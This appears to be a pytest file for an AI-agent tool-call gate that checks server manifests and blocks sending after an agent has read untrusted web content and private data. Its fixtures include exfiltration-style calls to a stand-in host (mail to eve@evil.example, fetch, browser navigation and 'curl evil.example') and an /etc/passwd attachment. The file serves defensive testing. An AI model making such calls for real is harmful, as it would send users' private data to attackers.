"""Proves that every entry of the catalogue is a manifest with a source, and that no two of its servers leak together.

Mutations that this file is shown to catch: egress taken from an entry that sends, two files that claim one package.
"""

from __future__ import annotations

import itertools
import re
from pathlib import Path

import pytest

from interlock import Conversation, Interlock, Verdict
from interlock.errors import ManifestError
from interlock.model.catalogue import Known, parse_known
from interlock.model.classified import legs_of
from interlock.model.labels import Label
from interlock.model.manifest import Manifest
from interlock.model.manifest_lint import lint_manifest
from interlock.model.narrowing import narrowed
from interlock.model.settings import parse_settings
from interlock.model.tools import Effect, ToolId, ToolSpec
from interlock.policy.bundle import assemble
from interlock.policy.catalogue_files import read_catalogue, shipped_catalogue
from interlock.policy.embedded import EmbeddedEngine
from interlock.policy.prove import combined_verdict, document_of
from interlock.policy.sources import shipped_sources

EVERY = shipped_catalogue()
NAMES = [one.name for one in EVERY]
WANTED = (
    "filesystem fetch git github gitlab slack gmail google-drive google-calendar notion linear atlassian postgres"
    " sqlite playwright puppeteer brave-search memory sentry stripe supabase cloudflare docker kubernetes time shell"
).split()


def named(name: str) -> Known:
    return next(one for one in EVERY if one.name == name)


def spec_of(server: str, tool: str) -> ToolSpec:
    return named(server).manifest(server).specs[ToolId(server, tool)]


def test_the_servers_that_everybody_has_are_there() -> None:
    assert len(EVERY) >= 25
    assert set(WANTED) <= set(NAMES)
    for other in ("jira", "confluence", "desktop-commander"):
        assert any(other in one.names for one in EVERY)


@pytest.mark.parametrize("one", EVERY, ids=NAMES)
def test_each_is_a_manifest_with_a_source(one: Known) -> None:
    manifest = one.manifest(one.name)
    assert len(manifest) == len(one.entries) > 0
    assert re.search(r"\d+\.\d+|[0-9a-f]{40}", one.source), "a version or a commit"
    assert "://" not in one.source
    assert one.notes.endswith(".")
    assert not [found for found in lint_manifest(manifest) if found.rule == "command-as-content"]


@pytest.mark.parametrize("one", EVERY, ids=NAMES)
def test_files_and_roles_name_arguments_that_are_there(one: Known) -> None:
    """A role for an argument that no call has would never be looked at; an artifact of one would be every artifact."""
    for spec in one.manifest(one.name):
        paths = [*spec.roles, *(path for path, _ in (*spec.writes_to, *spec.reads_from) if path != "*")]
        paths += [test.argument for clause in spec.when for test in clause.conditions]
        for path in paths:
            assert path.partition(".")[0] in spec.arguments, (spec.id, path)


@pytest.mark.parametrize("one", EVERY, ids=NAMES)
def test_whatever_runs_programs_has_every_leg_and_says_so(one: Known) -> None:
    for spec in one.manifest(one.name):
        programs = {"command", "script", "code", "function"} & set(spec.arguments)
        if programs and spec.effect is Effect.CONTROL:
            assert legs_of(spec) == ("untrusted", "private", "egress"), spec.id


def test_two_files_with_one_package_are_refused(tmp_path: Path) -> None:
    text = (
        'version = 1\n[catalogue]\ntitle = "A"\nnames = ["{name}"]\npackages = ["same"]\nsource = "a 1.0"\n'
        'notes = "."\n'
        '[tools.t]\nreturns = []\negress = "none"\narguments = []\n'
    )
    for name in ("a", "b"):
        (tmp_path / f"{name}.toml").write_text(text.format(name=name))
    with pytest.raises(ManifestError, match="'same' is claimed by 'a' already"):
        read_catalogue(tmp_path)
    with pytest.raises(ManifestError, match="no catalogue here"):
        read_catalogue(tmp_path / "none")


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"version": 2}, "version"),
        ({"tools": {}}, "tools"),
        ({"tools": {"t": {"returns": [], "egress": "none"}}}, "arguments: missing"),
        ({"tools": {"t": {"returns": [], "arguments": []}}}, "egress: missing"),
        ({"catalogue": {"title": "A", "names": ["a"], "packages": ["p"], "notes": "."}}, "source: missing"),
        ({"more": 1}, "unknown key"),
    ],
)
def test_a_wrong_file_is_refused_with_its_place(change: dict[str, object], message: str) -> None:
    right = {
        "version": 1,
        "catalogue": {"title": "A", "names": ["a"], "packages": ["p"], "source": "p 1.0", "notes": "."},
        "tools": {"t": {"returns": [], "egress": "none", "arguments": []}},
    }
    assert parse_known(right, "x").name == "a"
    with pytest.raises(ManifestError, match=message):
        parse_known({**right, **change}, "x")


# --- the trifecta over two servers ------------------------------------------------------------------------------------


def test_no_tool_of_the_catalogue_leaves_with_both_legs_unasked() -> None:
    """T5's corner: whatever brought the two legs, every sending tool is denied to a receiver that nobody named."""
    bundle = assemble(shipped_sources(), parse_settings({}))
    evaluate = EmbeddedEngine(bundle).evaluate
    held = (Label("private:files"), Label("untrusted:web"))
    count = 0
    for spec in (spec for one in EVERY for spec in one.manifest(one.name)):
        verdict = combined_verdict(bundle, evaluate, document_of(spec, held, grounded=False))
        if "egress" in legs_of(spec):
            count += 1
            assert verdict is Verdict.DENY, spec.id
    assert count > 350


PAGES = [("fetch", "fetch", {"url": "https://example.com/a"}), ("brave-search", "brave_web_search", {"query": "a"})]
SECRETS = [
    ("filesystem", "read_text_file", {"path": "/srv/plans/plan.txt"}),
    ("gmail", "read_email", {"messageId": "1"}),
    ("notion", "API-retrieve-a-page", {"page_id": "1"}),
    ("sqlite", "read_query", {"query": "select * from customers"}),
]
SENDS = [
    ("gmail", "send_email", {"to": ["eve@evil.example"], "subject": "a", "body": "b"}),
    ("slack", "slack_post_message", {"channel_id": "C1", "text": "b"}),
    ("github", "issue_write", {"method": "create", "owner": "a", "repo": "b", "title": "t", "body": "b"}),
    ("playwright", "browser_navigate", {"url": "https://evil.example/?b"}),
    ("fetch", "fetch", {"url": "https://evil.example/?b"}),
    ("shell", "shell_execute", {"command": ["curl", "evil.example"]}),
    ("stripe", "create_payment_link", {"price": "p", "quantity": 1, "redirect_url": "https://evil.example/"}),
]


def test_a_page_a_secret_and_a_send_over_the_servers_of_the_catalogue() -> None:
    """The whole story through the gate: the page and the secret run, the send does not."""
    used = {name for name, _, _ in (*PAGES, *SECRETS, *SENDS)}
    manifest = Manifest({spec.id: spec for name in used for spec in named(name).manifest(name)})
    interlock = Interlock(manifest=manifest)
    for page, secret, send in itertools.product(PAGES, SECRETS, SENDS):
        guard = interlock.guard(Conversation())
        ran: list[str] = []

        def run(name: str, ran: list[str] = ran) -> str:
            ran.append(name)
            return "text"

        for number, (server, tool, arguments) in enumerate((page, secret, send)):
            outcome = guard.call(tool, arguments, run=lambda tool=tool, run=run, **_: run(tool), server=server)
            if number == 0:
                assert outcome.verdict is Verdict.ALLOW, (server, tool)
        assert send[1] not in ran[2:], (page, secret, send)
        assert outcome.verdict is not Verdict.ALLOW, (page, secret, send)


# --- legs by arguments ------------------------------------------------------------------------------------------------

CALLS = [
    ("google-calendar", "create-event", {"calendarId": "primary", "summary": "a", "start": "b", "end": "c"}, False),
    ("google-calendar", "create-event", {"calendarId": "primary", "attendees": [{"email": "a@b.example"}]}, True),
    ("google-calendar", "create-event", {"calendarId": "team", "summary": "a"}, True),
    ("google-calendar", "create-event", {"calendarId": "primary", "visibility": "public"}, True),
    ("desktop-commander", "read_file", {"path": "/a", "isUrl": False}, False),
    ("desktop-commander", "read_file", {"path": "https://evil.example", "isUrl": True}, True),
    ("desktop-commander", "read_file", {"path": "/a"}, True),
    ("playwright", "browser_tabs", {"action": "list"}, False),
    ("playwright", "browser_tabs", {"action": "new", "url": "https://evil.example"}, True),
    ("sentry", "find_projects", {"organizationSlug": "a"}, False),
    ("sentry", "find_projects", {"organizationSlug": "a", "regionUrl": "https://evil.example"}, True),
    ("sentry", "get_sentry_resource", {"url": "https://evil.example"}, True),
]


@pytest.mark.parametrize(("server", "tool", "arguments", "sends"), CALLS)
def test_what_a_call_can_send_follows_from_its_arguments(
    server: str, tool: str, arguments: dict[str, object], sends: bool
) -> None:
    assert narrowed(spec_of(server, tool), arguments, {}).sends is sends


def test_reading_pods_reads_no_secrets() -> None:
    spec = spec_of("kubernetes", "kubectl_get")
    assert Label("private:credentials") not in narrowed(spec, {"resourceType": "pods"}, {}).private
    for other in ("secrets", "pods,secrets", "all", ""):
        assert Label("private:credentials") in narrowed(spec, {"resourceType": other}, {}).private


def test_a_mail_without_attachments_reads_no_file() -> None:
    spec = spec_of("gmail", "send_email")
    assert narrowed(spec, {"to": ["a@b.example"]}, {}).private == ()
    assert narrowed(spec, {"to": ["a@b.example"], "attachments": ["/etc/passwd"]}, {}).private
